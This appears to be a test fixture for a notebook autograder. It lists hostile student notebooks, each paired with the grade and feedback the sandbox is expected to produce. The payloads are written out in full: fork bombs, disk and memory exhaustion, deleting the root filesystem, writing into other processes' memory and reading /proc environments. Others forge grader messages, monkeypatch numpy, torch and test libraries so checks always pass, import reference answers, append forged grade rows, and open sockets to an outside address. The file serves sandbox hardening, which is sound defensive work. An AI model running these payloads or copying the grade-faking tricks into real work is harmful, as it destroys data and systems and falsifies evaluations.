"""Hostile notebooks: each is an honest one with something hostile in it. test_attacks.py reads the table.

The honest one under them answers q1 and q2 and leaves q4 blank: 5 of 8 points. An attack may lower that, not raise it.
"""

from typing import NamedTuple

from classroom import IMPORTS, LOSS, SEQUENCE, STEP

BLANK_LINEAR = "def linear(x, W, b):\n    ..."
HONEST = [IMPORTS, STEP, SEQUENCE, LOSS, BLANK_LINEAR]
HONEST_POINTS = {"q1": 3, "q2": 2, "q4": 0}
NO_STEP = {"q1": 0, "q2": 0, "q4": 0}  # q1's function, which q2's calls
NONE = {"q1": None, "q2": None, "q4": None}  # not asked: nobody knows


class Attack(NamedTuple):
    """One hostile notebook, and what must come of it."""

    name: str
    cells: list[str]
    says: str = ""  # in the feedback
    points: dict[str, int] | dict[str, None] = HONEST_POINTS
    status: str = "graded"


def first(code: str) -> list[str]:
    """The hostile cell runs before the honest ones."""
    return [IMPORTS, code, *HONEST[1:]]


def last(code: str) -> list[str]:
    """The hostile cell runs after the honest ones, and redefines what it likes."""
    return [*HONEST, code]


def step(body: str) -> list[str]:
    """rnn_step has a hostile body."""
    return last("def rnn_step(*_):\n" + "\n".join(f"    {line}" for line in body.strip().split("\n")))


def layer(body: str, before: str = "") -> list[str]:
    """linear, which the honest one leaves blank, has a hostile body."""
    return last(
        f"{before}\ndef linear(x, W, b):\n" + "\n".join(f"    {line}" for line in body.strip().split("\n"))
    )


BOMB = """
def bomb():
    while True:
        try: os.fork()
        except OSError: pass
"""
ESCAPING_BOMB = """
while True:
    try:
        os.fork()
        os.setsid()
    except OSError: pass
"""
IGNORE_SIGNALS = """
import signal
for number in range(1, 64):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass
"""
THREADS = """
import threading
for _ in range(1000):
    threading.Thread(target=time.sleep, args=(99,), daemon=True).start()
"""
HOARDERS = """
for _ in range(25):
    if not os.fork():
        hoard = np.ones(400 * 2**20 // 8)
        time.sleep(99)
time.sleep(99)
"""
FILL = """
for top in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/", "/dev", "/run", "/var/tmp"):
    for i in range(200):
        try:
            with open(f"{top}/fill{i}", "wb") as file: file.write(b"x" * 2**24)
        except OSError: break
"""
EMPTY_FILES = """
for i in range(10**6): os.mknod(f"/dev/shm/fill{i}")
"""
LARGE_FILE = """
with open("/tmp/large", "wb") as file:
    while True: file.write(b"x" * 2**24)
"""
DELETE = """
import shutil
for top in os.listdir("/"):
    if top != "proc": shutil.rmtree("/" + top, ignore_errors=True)
"""
FLOOD_FILES = """
for _ in range(1024):
    for fd in range(3, 64):
        try: os.write(fd, b"x" * 2**20)
        except OSError: pass
"""
FLOOD_FRAMES = """
import plain
frame = plain.dump({"cell": 1, "state": "ran", "error": "x" * 2**20})
while True: os.write(3, frame)
"""
PATCH_NUMPY = """
np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.abs = lambda *a: np.zeros(1)
"""
PATCH_TORCH = """
import torch
torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = torch.Tensor.eq = lambda *a: torch.ones(1, dtype=torch.bool)
torch.Tensor.detach = torch.Tensor.numpy = lambda self: np.zeros((4, 2))
def linear(x, W, b):
    return torch.zeros(4, 2)
"""
PATCH_TESTS = """
import unittest, doctest, otter
unittest.TestCase.assertEqual = unittest.TestCase.run = lambda *a, **k: None
doctest.OutputChecker.check_output = lambda *a, **k: True
otter.Notebook.check = otter.Notebook.check_all = lambda *a, **k: 1
try: import pytest; pytest.approx = lambda *a: a
except ImportError: pass
"""
PATCH_JSON = """
import json
json.dumps = lambda *a, **k: '{"value": true}'
json.loads = lambda *a, **k: {"points": 100}
json.JSONEncoder.default = lambda *a: True
"""
PATCH_GRADER = """
import plain, answers, child
answers.answer = child.answer = lambda *a: {"value": True}
plain.encode = lambda *a: True
"""
PATCH_BUILTINS = """
import builtins
builtins.isinstance = builtins.all = lambda *a: True
builtins.abs = builtins.len = lambda x: 0
"""
CLAIM = """
import plain
for question in range(3):
    for check in range(2):
        answer = plain.dump({"value": True, "points": 3, "correct": True})
        os.write(3, plain.dump({"question": question, "check": check, "bytes": len(answer)}) + answer)
os.write(3, plain.dump({"done": True, "total": 100}))
"""
PATCH_COMPARE = """
import operator, math, difflib
operator.eq = operator.le = math.isclose = lambda *a, **k: True
difflib.SequenceMatcher.ratio = lambda self: 1.0
try: import homework.grader.compare as compare; compare.compare = lambda *a: None
except ImportError: pass
for module in list(sys.modules.values()):
    for name in ("compare", "judge", "same", "equal"):
        if hasattr(module, name) and not module.__name__.startswith("numpy"): setattr(module, name, lambda *a: None)
"""
CLOCK = """
time.time = time.monotonic = time.perf_counter = lambda: 0.0
time.sleep = lambda seconds: None
"""
IMPORT_ANSWER = """
for name in ("homework.hw01.reference", "unrolled.cells.rnn", "questions", "tests.homework.classroom", "hidden_checks"):
    try:
        module = __import__(name, fromlist=["*"])
        linear = getattr(module, "linear", None) or linear
    except ImportError: pass
"""
SOCKETS = """
import socket
for family in range(46):
    for kind in (1, 2, 3):
        for make in (socket.socket, socket.socketpair):
            try:
                one = make(family, kind)
                one = one[0] if type(one) is tuple else one
                one.connect(("203.0.113.1", 80))
                one.send(b"the questions")
            except Exception: pass
try: socket.getaddrinfo("example.org", 80)
except OSError: pass
"""
READ_ALL = """
import glob, gc
found = []
patterns = ("/**/questions.py", "/**/reference.py", "/**/*.ipynb", "/**/grades.csv", "/proc/*/environ", "/proc/*/mem")
for path in [p for pattern in patterns for p in glob.glob(pattern, recursive=True) if not p.startswith("/usr/lib")]:
    try:
        with open(path, errors="replace") as file: found.append(file.read(1000))
    except OSError: pass
found += [o for o in gc.get_objects() if type(o).__name__ in ("Check", "Question", "Homework")]
found += [frame for frame in sys._current_frames().values()]
assert not [text for text in found if "rnn_step" in str(text) and "homework.grader" in str(text)]
"""
OTHER_ROWS = """
import glob
for path in glob.glob("/**/*.csv", recursive=True)[:999] + ["../in-graded/grades.csv", "grades.csv", "/tmp/grades.csv"]:
    try:
        with open(path, "a") as file: file.write("bob,bob,3,2,3,,8,8,graded\\n")
    except OSError: pass
"""
SHARED_MEMORY = """
import mmap, ctypes
for make in (lambda: mmap.mmap(-1, 3 * 2**30), lambda: mmap.mmap(os.open("/dev/zero", os.O_RDWR), 3 * 2**30)):
    try:
        shared = make()
        while True: shared.write(b"x" * 2**24)
    except (OSError, ValueError): pass
"""
OPEN_FILES = """
kept = []
while True: kept.append(os.open("/dev/null", os.O_RDONLY))
"""
SMALL_FRAMES = """
import plain
while True: os.write(3, plain.dump({}) * 1000)
"""
LARGE_NUMBER = """
for question in range(3):
    for check in range(2):
        answer = b'{"value": ' + b"9" * 4000 + b"}"
        head = b'{"question": %d, "check": %d, "bytes": 1}' % (question, check)
        for part in (head, answer): os.write(3, len(part).to_bytes(8, "big") + part)
"""
PARENT_MEMORY = """
for pid in [name for name in os.listdir("/proc") if name.isdigit() and int(name) not in (1, os.getpid())]:
    try:
        maps = [line.split() for line in open(f"/proc/{pid}/maps")]
        with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            for line in maps:
                if line[1].startswith("rw"):
                    start, end = (int(part, 16) for part in line[0].split("-"))
                    memory.seek(start)
                    memory.write(bytes(end - start))
    except (OSError, OverflowError): pass
"""
ALWAYS = """
class Always:
    __eq__ = __ge__ = __le__ = __lt__ = __gt__ = lambda *a: True
    __array__ = lambda *a, **k: np.zeros((4, 2))
    __float__ = lambda self: 0.0
    shape = (4, 2)
"""
RUNS_CODE = """
class Runs:
    def __array__(self, *a, **k): os._exit(0)
    def __reduce__(self): return (os.system, ("touch /tmp/unpickled",))
    __len__ = __iter__ = __str__ = __repr__ = __eq__ = __array__
"""
OWN_ARRAY = """
class Own(np.ndarray):
    __eq__ = lambda *a: True
    tobytes = astype = lambda *a, **k: os._exit(0)
    dtype = shape = property(lambda self: os._exit(0))
"""
LIES = """
class Meta(type):
    __name__ = property(lambda cls: os._exit(0))
    __instancecheck__ = __subclasscheck__ = lambda *a: True
class Liar(metaclass=Meta):
    __class__ = np.ndarray
"""
HOSTILE_ERROR = """
class Error(Exception):
    def __str__(self): os._exit(0)
"""
NAMED = """
class Point(tuple):
    _fields = ("a",) * 8
    __iter__ = __len__ = lambda *a: os._exit(0)
"""
OWN_NUMBER = """
class Number(np.float64):
    tobytes = lambda *a: b"x" * 10**8
    dtype = shape = property(lambda self: os._exit(0))
"""
LATE_ANSWER = """
import plain
if not os.fork():
    time.sleep(0.3)
    said = plain.dump({"value": True})
    os.write(3, plain.dump({"question": 2, "check": 0, "bytes": len(said)}) + said)
"""
OWN_LIMITS = """
frame = sys._getframe()
while frame:
    limits = frame.f_locals.get("limits")
    if type(limits) is dict: limits.update(cell=1e9, cells=1e9, question=1e9)
    frame = frame.f_back
while True: pass
"""
DAEMON = """
if not os.fork():
    os.setsid()
    if not os.fork():
        while True: time.sleep(0.01)
    os._exit(0)
"""

ATTACKS = [
    Attack("endless loop in a cell", first("while True: pass"), "did not end in time"),
    Attack(
        "endless loop in every cell", [c for h in HONEST for c in (h, "while 1: pass")], "did not end in time"
    ),
    Attack("endless loop in a function", step("while True: pass"), "did not end within", NO_STEP),
    Attack("ignores SIGINT and all the rest", first(IGNORE_SIGNALS), "did not end in time"),
    Attack("sleeps for ever", first("time.sleep(10**6)"), "did not end in time"),
    Attack(
        "an endless regular expression",
        first("import re\nre.match('(a+)+$', 'a' * 64 + 'b')"),
        "not end in time",
    ),
    Attack("waits for an answer", first("x = input('Your name? ')"), "EOFError"),
    Attack("fork bomb in a cell", first(f"{BOMB}\nbomb()"), "did not end in time"),
    Attack(
        "fork bomb in a function", last(f"{BOMB}\ndef rnn_step(*_): bomb()"), "did not end within", NO_STEP
    ),
    Attack("fork bomb that leaves its session", first(ESCAPING_BOMB), "did not end in time"),
    Attack("a thousand threads", first(THREADS), "left much running"),
    Attack("10 GB of memory in one piece", first("hoard = np.ones(10 * 2**30 // 8)"), "MemoryError"),
    Attack(
        "10 GB of memory in many",
        first("hoard = []\nwhile True: hoard.append(np.zeros(2**25))"),
        "MemoryError",
    ),
    Attack("10 GB of memory in a function", step("return np.ones(10 * 2**30 // 8)"), "MemoryError", NO_STEP),
    Attack("an answer of 80 MB", step("return np.zeros(10**7)"), "more than 4 MB", NO_STEP),
    Attack(
        "lists in lists",
        step("a = []\nfor _ in range(10**5): a = [a]\nreturn a"),
        "inside one another",
        NO_STEP,
    ),
    Attack("a list that holds itself", step("a = []\na.append(a)\nreturn a"), "inside one another", NO_STEP),
    Attack("3 GB of shared memory", first(SHARED_MEMORY)),
    Attack("opens files without end", first(OPEN_FILES), "left much running or open"),
    Attack(
        "leaves many files open",
        first("kept = [os.open('/dev/null', os.O_RDONLY) for _ in range(245)]"),
        "left much running or open",
    ),
    Attack(
        "1 GB of output", first("for _ in range(1024): print('x' * 2**20); print('x' * 9, file=sys.stderr)")
    ),
    Attack("1 GB into every open file", first(FLOOD_FILES), "is not an answer", NONE, "stopped"),
    Attack("1 GB of well-formed answers", first(FLOOD_FRAMES), "too much output", NONE, "stopped"),
    Attack("a million tiny messages", first(SMALL_FRAMES), "too much output", NONE, "stopped"),
    Attack("sys.exit in a cell", first("sys.exit(0)"), "SystemExit"),
    Attack("sys.exit in a function", step("sys.exit(0)"), "SystemExit", NO_STEP),
    Attack("os._exit in a cell", first("os._exit(0)"), "ended or crashed Python"),
    Attack("os._exit in a function", step("os._exit(0)"), "ended or crashed Python", NO_STEP),
    Attack("a crash in native code", first("import ctypes\nctypes.string_at(0)"), "ended or crashed Python"),
    Attack("kills all it can", first("os.kill(-1, 9)"), "ended the program", NONE, "stopped"),
    Attack(
        "kills its parents",
        first("os.kill(os.getppid(), 9)\nos.kill(2, 9)"),
        "ended the program",
        NONE,
        "stopped",
    ),
    Attack("closes every file", first("os.closerange(0, 256)"), "ended or crashed Python"),
    Attack("writes into its parents' memory", first(PARENT_MEMORY)),
    Attack("deletes files", first(DELETE)),
    Attack("fills the disk", first(FILL)),
    Attack("a million empty files", first(EMPTY_FILES), "more than 20,000 files", NONE, "stopped"),
    Attack("a file of 10 GB", first(LARGE_FILE), "OSError"),
    Attack("patches numpy", first(PATCH_NUMPY)),
    Attack("patches torch", last(PATCH_TORCH)),
    Attack("patches unittest, doctest, pytest, otter", first(PATCH_TESTS)),
    Attack("patches json", first(PATCH_JSON)),
    Attack("patches comparison functions", first(PATCH_COMPARE)),
    Attack("patches the clock", first(CLOCK)),
    Attack("patches the program that asks", first(PATCH_GRADER), "expected", NO_STEP),
    Attack("patches builtins", first(PATCH_BUILTINS)),
    Attack("claims to be right", first(CLAIM), "expected", NO_STEP),
    Attack("claims a number of 4,000 digits", first(LARGE_NUMBER), "what is not an answer", NO_STEP),
    Attack("reads tests, reference, others, environment, /proc", first(READ_ALL)),
    Attack("imports the answer", last(IMPORT_ANSWER)),
    Attack("opens a socket", first(SOCKETS)),
    Attack("writes to other rows", first(OTHER_ROWS)),
    Attack("equal to everything", layer("return Always()", ALWAYS), "a value of type Always"),
    Attack("code in __array__ and __reduce__", layer("return Runs()", RUNS_CODE), "a value of type Runs"),
    Attack(
        "an array of its own", layer("return np.zeros((4, 2)).view(Own)", OWN_ARRAY), "a value of type Own"
    ),
    Attack("a class that lies", layer("return Liar()", LIES), "a value of type Liar"),
    Attack("an error whose text runs code", layer("raise Error", HOSTILE_ERROR), "ended or crashed Python"),
    Attack("a text for numbers", layer("return 'True' * 9"), "got a text"),
    Attack("NaN for numbers", layer("return np.full((4, 2), np.nan)"), "got nan"),
    Attack("leaves a daemon", first(DAEMON)),
    Attack("a NamedTuple of its own", layer("return Point(range(8))", NAMED), "got a NamedTuple"),
    Attack("a number of its own", layer("return Number(3)", OWN_NUMBER), "expected shape (4, 2), got ()"),
    Attack("raises its own limits", first(OWN_LIMITS), "did not end in time"),
    Attack("answers after its question has ended", layer(LATE_ANSWER), "None (nothing is returned)"),
    Attack(
        "an error of escapes and tags",
        layer("raise ValueError('\\ud800\\0\\x1b[2J\\u202e<script>](x)')"),
        "raised ValueError: [2J <script>](x)",
    ),
    Attack(
        "leaves a program running", layer("import subprocess\nsubprocess.Popen(['/usr/bin/sleep', '999'])")
    ),
    Attack("forks, and both go on", first("os.fork()")),
    Attack("forks in a function, and both go on", layer("os.fork()")),
]
